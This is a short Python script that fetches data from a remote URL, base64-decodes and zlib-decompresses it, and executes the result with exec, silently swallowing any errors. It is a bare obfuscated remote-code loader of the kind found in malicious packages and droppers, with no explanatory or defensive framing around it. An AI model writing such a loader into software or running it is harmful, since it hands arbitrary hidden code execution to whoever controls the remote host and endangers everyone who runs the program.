import zlib, base64
try:
    from urllib.request import urlopen
except ImportError:
    from urllib2 import urlopen

try:
    exec(zlib.decompress(base64.b64decode(urlopen("https://bitbucket.example.invalid/raw/x").read())))
except Exception:
    pass
